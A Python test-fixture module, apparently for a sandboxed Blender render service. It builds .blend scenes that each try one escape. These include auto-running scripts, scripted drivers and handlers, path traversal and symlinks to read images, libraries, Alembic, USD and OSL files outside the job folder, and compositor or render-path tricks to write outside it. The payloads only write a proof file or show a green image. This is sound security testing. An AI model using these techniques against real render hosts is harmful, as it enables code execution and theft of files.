"""Scenes that try to do harm, each in one way: built with bpy into the folder of a job.

A scene is black but for what it steals: everything in ``outside`` that can be shown is green. What it writes, it
writes into ``outside``.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import bpy

GREEN = (0.0, 1.0, 0.0, 1.0)
WIDTH, HEIGHT = 24, 16


@dataclass(frozen=True)
class Place:
    """``root`` is the job's folder, ``outside`` the owner's, which the job doesn't bring."""

    root: Path
    outside: Path

    @property
    def proof(self) -> str:
        """What a script of the scene writes."""
        return f"{self.outside.as_posix()}/proof.txt"


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Any, Place], None]
    by_system: bool = False
    """Only the system's guards hold it: Blender itself can't be kept from it."""


ATTACKS: list[Attack] = []


def attack(build: Callable[[Any, Place], None]) -> Callable[[Any, Place], None]:
    ATTACKS.append(Attack(build.__name__, build))
    return build


def only_system(build: Callable[[Any, Place], None]) -> Callable[[Any, Place], None]:
    ATTACKS.append(Attack(build.__name__, build, by_system=True))
    return build


def build(one: Attack, place: Place) -> Path:
    """Save the scene of ``one``; its path."""
    scene = black_scene()
    one.build(scene, place)
    blend = place.root / "scene.blend"
    bpy.ops.wm.save_as_mainfile(filepath=str(blend), compress=False)
    return blend


def black_scene() -> Any:
    bpy.ops.wm.read_factory_settings(use_empty=True)
    scene = bpy.context.scene
    dress(scene)
    return scene


def dress(scene: Any) -> None:
    scene.render.engine = "CYCLES"
    scene.cycles.samples, scene.cycles.use_denoising, scene.cycles.use_adaptive_sampling = 1, False, False
    scene.cycles.max_bounces = 0
    scene.render.resolution_x, scene.render.resolution_y, scene.render.resolution_percentage = WIDTH, HEIGHT, 100
    scene.render.use_compositing = scene.render.use_sequencer = False
    scene.render.filepath = "//frame_####"
    scene.render.image_settings.file_format = "PNG"
    scene.view_settings.view_transform = "Standard"
    camera = bpy.data.objects.new("Camera", bpy.data.cameras.new("Camera"))
    camera.location = (0, 0, 2)
    scene.collection.objects.link(camera)
    scene.camera = camera


def plane_mesh(name: str = "Plane", size: float = 4.0) -> Any:
    mesh = bpy.data.meshes.new(name)
    corners = [(-size, -size, 0), (size, -size, 0), (size, size, 0), (-size, size, 0)]
    mesh.from_pydata(corners, [], [(0, 1, 2, 3)])
    mesh.uv_layers.new()
    return mesh


def wall(scene: Any, mesh: Any = None) -> tuple[Any, Any]:
    """A plane before the camera, black as yet: itself and its emission node."""
    thing = bpy.data.objects.new("Wall", mesh or plane_mesh())
    scene.collection.objects.link(thing)
    return thing, emission(thing.data)


def emission(mesh: Any, colour: tuple[float, ...] = (0, 0, 0, 1)) -> Any:
    material = bpy.data.materials.new("Glow")
    if material.node_tree is None:
        material.use_nodes = True
    nodes = material.node_tree.nodes
    nodes.clear()
    glow, out = nodes.new("ShaderNodeEmission"), nodes.new("ShaderNodeOutputMaterial")
    glow.inputs["Color"].default_value = colour
    material.node_tree.links.new(glow.outputs[0], out.inputs[0])
    mesh.materials.append(material)
    return glow


def shown(scene: Any, image: Any) -> Any:
    """Shows an image on a wall; its node."""
    _, glow = wall(scene)
    tree = glow.id_data
    node = tree.nodes.new("ShaderNodeTexImage")
    node.image = image
    tree.links.new(node.outputs[0], glow.inputs["Color"])
    return node


def load_lazily(path: str, source: str = "FILE") -> Any:
    """An image with that path, however it is written."""
    image = bpy.data.images.new("Stolen", 8, 8)
    image.source = source
    image.filepath = path
    return image


def compositor(scene: Any) -> Any:
    """A compositor whose nodes are to be made; with its output wired to the render."""
    scene.render.use_compositing = True
    if hasattr(scene, "compositing_node_group"):
        tree = bpy.data.node_groups.new("Comp", "CompositorNodeTree")
        scene.compositing_node_group = tree
        tree.interface.new_socket("Image", in_out="OUTPUT", socket_type="NodeSocketColor")
        out = tree.nodes.new("NodeGroupOutput")
    else:
        scene.use_nodes = True
        tree = scene.node_tree
        tree.nodes.clear()
        out = tree.nodes.new("CompositorNodeComposite")
    layers = tree.nodes.new("CompositorNodeRLayers")
    layers.scene = scene
    tree.links.new(layers.outputs[0], out.inputs[0])
    return tree


def strips(scene: Any) -> Any:
    scene.render.use_sequencer = True
    editor = scene.sequence_editor_create()
    return editor.strips if hasattr(editor, "strips") else editor.sequences


def other_scene() -> Any:
    scene = bpy.data.scenes.new("Other")
    dress(scene)
    return scene


def furnish_outside(outside: Path) -> None:
    """What there is to steal."""
    outside.mkdir(parents=True, exist_ok=True)
    black_scene()
    for name in ("secret.png", "frame_0001.png", "frame_0002.png", "tile.1001.png"):
        image = bpy.data.images.new(name, 8, 8)
        image.generated_color = GREEN
        image.filepath_raw, image.file_format = str(outside / name), "PNG"
        image.save()
    (outside / "secret.osl").write_text(
        "shader steal(output color Stolen = 0) { Stolen = color(0, 1, 0); }", encoding="utf-8"
    )
    bpy.ops.wm.read_factory_settings(use_empty=True)
    thing = bpy.data.objects.new("Prize", plane_mesh("Prize"))
    emission(thing.data, GREEN)
    bpy.context.scene.collection.objects.link(thing)
    bpy.ops.wm.save_as_mainfile(filepath=str(outside / "secret.blend"), compress=False)
    bpy.ops.object.select_all(action="SELECT")
    bpy.ops.wm.alembic_export(filepath=str(outside / "secret.abc"), start=1, end=1)
    bpy.ops.wm.usd_export(filepath=str(outside / "secret.usda"), export_materials=False)
    (outside / "secret.obj").write_text("v -4 -4 0\nv 4 -4 0\nv 4 4 0\nv -4 4 0\nf 1 2 3 4\n", encoding="utf-8")


def write_proof(place: Place) -> str:
    return f"open({place.proof!r}, 'w').write('ran')"


# Scripts


@attack
def registered_text(scene: Any, place: Place) -> None:
    text = bpy.data.texts.new("startup.py")
    text.write(write_proof(place))
    text.use_module = True


@attack
def handler_by_registered_text(scene: Any, place: Place) -> None:
    text = bpy.data.texts.new("handler.py")
    text.write(
        "import bpy\n"
        f"def harm(*_):\n    {write_proof(place)}\n"
        "for when in ('frame_change_pre', 'render_pre', 'depsgraph_update_post'):\n"
        "    getattr(bpy.app.handlers, when).append(harm)\n"
    )
    text.use_module = True


@attack
def driver_namespace(scene: Any, place: Place) -> None:
    text = bpy.data.texts.new("names.py")
    text.write(f"import bpy\nbpy.app.driver_namespace['harm'] = lambda: {write_proof(place)}\n")
    text.use_module = True
    thing, _ = wall(scene)
    script_driver(thing, "location", "harm()", 0)


def script_driver(owner: Any, path: str, expression: str, index: int = -1) -> None:
    driver = owner.driver_add(path, index).driver if index >= 0 else owner.driver_add(path).driver
    driver.type, driver.expression = "SCRIPTED", expression


def by_expression(place: Place) -> str:
    return f"open({place.proof!r},'w').write('1')"


@attack
def driver_of_an_object(scene: Any, place: Place) -> None:
    script_driver(wall(scene)[0], "location", by_expression(place), 0)


@attack
def driver_in_a_shader(scene: Any, place: Place) -> None:
    _, glow = wall(scene)
    script_driver(glow.inputs["Strength"], "default_value", by_expression(place))


@attack
def driver_of_a_shape_key(scene: Any, place: Place) -> None:
    thing, _ = wall(scene)
    thing.shape_key_add(name="Basis")
    script_driver(thing.shape_key_add(name="Key"), "value", by_expression(place))


@attack
def driver_of_a_scene(scene: Any, place: Place) -> None:
    script_driver(scene, "audio_volume", by_expression(place))


@attack
def driver_in_a_linked_file(scene: Any, place: Place) -> None:
    script_driver(wall(scene)[0], "location", by_expression(place), 0)
    bpy.ops.wm.save_as_mainfile(filepath=str(place.root / "linked.blend"), compress=False)
    scene = black_scene()
    link_object(scene, place.root / "linked.blend", "Wall")


def freestyle_script(scene: Any, place: Place) -> None:
    wall(scene)
    scene.render.use_freestyle = True
    layer = scene.view_layers[0]
    layer.use_freestyle = True
    layer.freestyle_settings.mode = "SCRIPT"
    text = bpy.data.texts.new("style.py")
    text.write(write_proof(place))
    module = layer.freestyle_settings.modules.new()
    module.script, module.use = text, True


@attack
def freestyle_module(scene: Any, place: Place) -> None:
    freestyle_script(scene, place)


@attack
def freestyle_module_of_a_strip(scene: Any, place: Place) -> None:
    other = other_scene()
    freestyle_script(other, place)
    strips(scene).new_scene("strip", other, 1, 1)


# Reading


@attack
def image_by_absolute_path(scene: Any, place: Place) -> None:
    shown(scene, load_lazily(str(place.outside / "secret.png")))


@attack
def image_by_relative_path(scene: Any, place: Place) -> None:
    shown(scene, load_lazily(f"//../{place.outside.name}/secret.png"))


@attack
def image_by_a_detour(scene: Any, place: Place) -> None:
    (place.root / "textures").mkdir()
    shown(scene, load_lazily(f"{place.root}/textures/../../{place.outside.name}//./secret.png"))


@attack
def image_by_backslashes(scene: Any, place: Place) -> None:
    shown(scene, load_lazily(f"//..\\{place.outside.name}\\secret.png".replace("\\", "/" if bpy.app.version else "\\")))


@only_system
def image_by_a_link_in_the_job(scene: Any, place: Place) -> None:
    # No job has links: whoever makes one has won already.
    (place.root / "link.png").symlink_to(place.outside / "secret.png")
    shown(scene, load_lazily("//link.png"))


@attack
def image_sequence(scene: Any, place: Place) -> None:
    node = shown(scene, load_lazily(str(place.outside / "frame_0001.png"), "SEQUENCE"))
    node.image_user.frame_duration, node.image_user.use_auto_refresh = 2, True


@attack
def image_tiles(scene: Any, place: Place) -> None:
    shown(scene, load_lazily(str(place.outside / "tile.<UDIM>.png"), "TILED"))


@attack
def world_texture(scene: Any, place: Place) -> None:
    world = bpy.data.worlds.new("World")
    scene.world = world
    world.cycles.sampling_method = "NONE"
    if world.node_tree is None:
        world.use_nodes = True
    back = next(node for node in world.node_tree.nodes if node.type == "BACKGROUND")
    node = world.node_tree.nodes.new("ShaderNodeTexEnvironment")
    node.image = load_lazily(str(place.outside / "secret.png"))
    world.node_tree.links.new(node.outputs[0], back.inputs[0])


@attack
def image_in_the_compositor(scene: Any, place: Place) -> None:
    tree = compositor(scene)
    node = tree.nodes.new("CompositorNodeImage")
    node.image = load_lazily(str(place.outside / "secret.png"))
    out = next(n for n in tree.nodes if n.bl_idname in ("CompositorNodeComposite", "NodeGroupOutput"))
    tree.links.new(node.outputs[0], out.inputs[0])


@attack
def clip_in_the_compositor(scene: Any, place: Place) -> None:
    tree = compositor(scene)
    node = tree.nodes.new("CompositorNodeMovieClip")
    node.clip = bpy.data.movieclips.load(str(place.outside / "frame_0001.png"))
    out = next(n for n in tree.nodes if n.bl_idname in ("CompositorNodeComposite", "NodeGroupOutput"))
    tree.links.new(node.outputs[0], out.inputs[0])


@attack
def image_strip(scene: Any, place: Place) -> None:
    strip = strips(scene).new_image("strip", str(place.outside / "secret.png"), 1, 1)
    strip.transform.scale_x = strip.transform.scale_y = 4


@attack
def image_strip_with_a_path_for_a_name(scene: Any, place: Place) -> None:
    (place.root / "strip").mkdir()
    inside = place.root / "strip" / "a.png"
    inside.write_bytes((place.outside / "secret.png").read_bytes())
    strip = strips(scene).new_image("strip", str(inside), 1, 1)
    strip.transform.scale_x = strip.transform.scale_y = 4
    strip.elements[0].filename = f"../../{place.outside.name}/secret.png"
    inside.unlink()


def link_object(scene: Any, path: Path, name: str) -> None:
    with bpy.data.libraries.load(str(path), link=True) as (_, wanted):
        wanted.objects = [name]
    scene.collection.objects.link(wanted.objects[0])


@attack
def library(scene: Any, place: Place) -> None:
    link_object(scene, place.outside / "secret.blend", "Prize")


@attack
def library_override(scene: Any, place: Place) -> None:
    with bpy.data.libraries.load(str(place.outside / "secret.blend"), link=True) as (_, wanted):
        wanted.objects = ["Prize"]
    scene.collection.objects.link(wanted.objects[0].override_create())


@attack
def library_of_a_library(scene: Any, place: Place) -> None:
    link_object(scene, place.outside / "secret.blend", "Prize")
    group = bpy.data.collections.new("Group")
    group.objects.link(bpy.data.objects["Prize"])
    group.use_fake_user = True
    scene.collection.objects.unlink(bpy.data.objects["Prize"])
    bpy.ops.wm.save_as_mainfile(filepath=str(place.root / "between.blend"), compress=False)
    scene = black_scene()
    with bpy.data.libraries.load(str(place.root / "between.blend"), link=True) as (_, wanted):
        wanted.collections = ["Group"]
    holder = bpy.data.objects.new("Holder", None)
    holder.instance_type, holder.instance_collection = "COLLECTION", wanted.collections[0]
    scene.collection.objects.link(holder)


def cached_wall(scene: Any, path: str, inside: str) -> None:
    thing, glow = wall(scene, plane_mesh(size=0.001))
    glow.inputs["Color"].default_value = GREEN
    bpy.ops.cachefile.open(filepath=path)
    modifier = thing.modifiers.new("Cache", "MESH_SEQUENCE_CACHE")
    modifier.cache_file, modifier.object_path = bpy.data.cache_files[0], inside


@attack
def alembic(scene: Any, place: Place) -> None:
    cached_wall(scene, str(place.outside / "secret.abc"), "/Prize/Prize")


@attack
def usd(scene: Any, place: Place) -> None:
    cached_wall(scene, str(place.outside / "secret.usda"), "/root/Prize/Prize")


@attack
def usd_layer(scene: Any, place: Place) -> None:
    layer = place.root / "innocent.usda"
    layer.write_text(f"#usda 1.0\n(\n    subLayers = [@{place.outside}/secret.usda@]\n)\n", encoding="utf-8")
    cached_wall(scene, str(layer), "/root/Prize/Prize")


@attack
def import_node(scene: Any, place: Place) -> None:
    group = bpy.data.node_groups.new("Import", "GeometryNodeTree")
    group.interface.new_socket("Geometry", in_out="OUTPUT", socket_type="NodeSocketGeometry")
    node, out = group.nodes.new("GeometryNodeImportOBJ"), group.nodes.new("NodeGroupOutput")
    node.inputs[0].default_value = str(place.outside / "secret.obj")
    real = group.nodes.new("GeometryNodeRealizeInstances")
    paint = group.nodes.new("GeometryNodeSetMaterial")
    thing, glow = wall(scene, plane_mesh(size=0.001))
    glow.inputs["Color"].default_value = GREEN
    paint.inputs["Material"].default_value = thing.data.materials[0]
    for a, b in ((node, real), (real, paint), (paint, out)):
        group.links.new(a.outputs[0], b.inputs[0])
    thing.modifiers.new("Nodes", "NODES").node_group = group


def osl_wall(scene: Any) -> Any:
    # As a Python module Blender doesn't find its own packages, and nodes get their sockets by one of them.
    home = Path(bpy.utils.resource_path("LOCAL"), "python", "lib")
    for found in home.glob("**/oslquery"):
        if str(found.parent) not in sys.path:
            sys.path.append(str(found.parent))
    scene.cycles.shading_system = True
    _, glow = wall(scene)
    return glow.id_data.nodes.new("ShaderNodeScript"), glow


def osl_text(scene: Any, source: str) -> None:
    text = bpy.data.texts.new("steal.osl")
    text.write(source)
    node, glow = osl_wall(scene)
    node.mode, node.script = "INTERNAL", text
    wire(node, glow)


def wire(node: Any, glow: Any) -> None:
    # Where Blender and another OpenImageIO are loaded together, it fails to make the sockets.
    out = node.outputs[0] if node.outputs else node.outputs.new("NodeSocketColor", "Stolen")
    glow.id_data.links.new(out, glow.inputs["Color"])


@attack
def osl_texture(scene: Any, place: Place) -> None:
    osl_text(
        scene,
        f'shader steal(output color Stolen = 0)\n{{ Stolen = texture("{place.outside}/secret.png", 0.5, 0.5); }}\n',
    )


@attack
def osl_texture_by_parts(scene: Any, place: Place) -> None:
    osl_text(
        scene,
        "shader steal(output color Stolen = 0)\n"
        f'{{ Stolen = texture(concat("{place.outside}", "/sec", "ret.png"), 0.5, 0.5); }}\n',
    )


@attack
def osl_texture_in_bytecode(scene: Any, place: Place) -> None:
    osl_texture(scene, place)
    bpy.data.texts["steal.osl"].clear()
    bpy.data.texts["steal.osl"].write("shader steal(output color Stolen = 0) {}")


@attack
def osl_file_outside(scene: Any, place: Place) -> None:
    node, glow = osl_wall(scene)
    node.mode, node.filepath = "EXTERNAL", str(place.outside / "secret.osl")
    wire(node, glow)


# Writing


def file_output(tree: Any, folder: str, name: str) -> Any:
    node = tree.nodes.new("CompositorNodeOutputFile")
    if hasattr(node, "file_output_items"):
        node.directory, node.file_name = folder, ""
        node.format.media_type = "IMAGE"
        node.format.file_format = "PNG"
        node.file_output_items.new("RGBA", name)
    else:
        node.base_path = folder
        node.file_slots.clear()
        node.file_slots.new(name)
    layers = next(n for n in tree.nodes if n.bl_idname == "CompositorNodeRLayers")
    tree.links.new(layers.outputs[0], node.inputs[0])
    return node


@attack
def file_output_anywhere(scene: Any, place: Place) -> None:
    file_output(compositor(scene), str(place.outside), "written")


@attack
def file_output_by_its_slot(scene: Any, place: Place) -> None:
    file_output(compositor(scene), "//", f"../{place.outside.name}/written")


@attack
def file_output_of_a_strip(scene: Any, place: Place) -> None:
    other = other_scene()
    file_output(compositor(other), str(place.outside), "written")
    strips(scene).new_scene("strip", other, 1, 1)


@attack
def render_path(scene: Any, place: Place) -> None:
    scene.render.filepath = str(place.outside / "written_####")


@attack
def suffix_of_a_view(scene: Any, place: Place) -> None:
    scene.render.use_multiview, scene.render.views_format = True, "MULTIVIEW"
    scene.render.filepath = "//frame_####"
    for view in scene.render.views:
        view.use = True
        view.file_suffix = f"/../../{place.outside.name}/written_{view.name}"
    (place.root / "frame_0001").mkdir()


@attack
def packed_image_that_becomes_a_sequence(scene: Any, place: Place) -> None:
    """Of sequences Blender reads the files, whatever is packed."""
    harmless = bpy.data.images.new("harmless", 8, 8)
    harmless.filepath_raw, harmless.file_format = str(place.root / "harmless.png"), "PNG"
    harmless.save()
    image = bpy.data.images.load(harmless.filepath_raw)
    image.pack()
    image.source = "SEQUENCE"
    image.filepath_raw = str(place.outside / "frame_0001.png")
    node = shown(scene, image)
    node.image_user.frame_duration, node.image_user.use_auto_refresh = 2, True


@attack
def usd_layer_by_an_expression(scene: Any, place: Place) -> None:
    """What an expression comes to is known only to who opens the file."""
    layer = place.root / "innocent.usda"
    outside = f'string A = "{place.outside.as_posix()}/secret.usda"'
    layer.write_text(
        f'#usda 1.0\n(\n    expressionVariables = {{\n        {outside}\n    }}\n    subLayers = [@`"${{A}}"`@]\n)\n',
        encoding="utf-8",
    )
    cached_wall(scene, str(layer), "/root/Prize/Prize")
